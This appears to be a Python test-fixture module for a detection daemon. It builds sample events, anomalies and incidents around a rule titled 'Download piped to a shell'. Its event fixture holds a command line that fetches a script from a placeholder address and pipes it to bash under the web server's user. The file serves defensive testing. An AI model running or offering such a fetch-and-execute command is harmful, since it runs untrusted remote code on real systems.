"""Incidents as detection hands them over, for tests of what is told about them."""

from daemon.model import Anomaly, Event, Incident, IncidentStatus, Logsource, RuleRef, Severity, Value

AT = 1_795_253_400.0
"""2026-11-21T09:30:00Z"""
RULE = RuleRef(
    id="r1",
    title="Download piped to a shell",
    severity=Severity.high,
    description="Detects a download that is piped into a shell.",
    techniques=("attack.t1059.004",),
    tactics=("attack.execution",),
    falsepositives=("Installers of some projects",),
    runbook="1. Look at the script.\n2. Compare its hash.",
)


def event(number: int = 0, *, at: float | None = None, **fields: Value) -> Event:
    """A process start by a web server's user."""
    told: dict[str, Value] = {
        "User": "www-data",
        "Image": "/usr/bin/bash",
        "CommandLine": f"curl -fsSL http://203.0.113.7/x{number}.sh | bash",
        "ParentImage": "/usr/sbin/apache2",
        "ProcessId": 4242 + number,
    }
    told |= fields
    when = AT + number if at is None else at
    return Event(
        f"e{number}", when, "web01", "audit", Logsource(category="process_creation"), told, str(told["CommandLine"])
    )


def anomaly(*events: Event, because: str = "CommandLine contains “| bash”") -> Anomaly:
    """One firing of the rule on these events."""
    return Anomaly("a1", RULE, AT, "web01", "audit", "User=www-data", because, events)


def incident(*events: Event, count: int = 1, last_at: float = AT, rule: RuleRef = RULE, **changes: str) -> Incident:
    """An open incident with these events."""
    because = changes.get("because", "CommandLine contains “| bash”")
    return Incident(
        id="inc-1",
        rule=rule,
        entity=changes.get("entity", "User=www-data"),
        host="web01",
        source="audit",
        severity=Severity.high,
        status=IncidentStatus(changes.get("status", "open")),
        opened_at=AT,
        last_at=last_at,
        count=count,
        because=because,
        first_event=events[0].id if events else "",
        last_event=events[-1].id if events else "",
        anomalies=(anomaly(*events, because=because),) if events else (),
    )
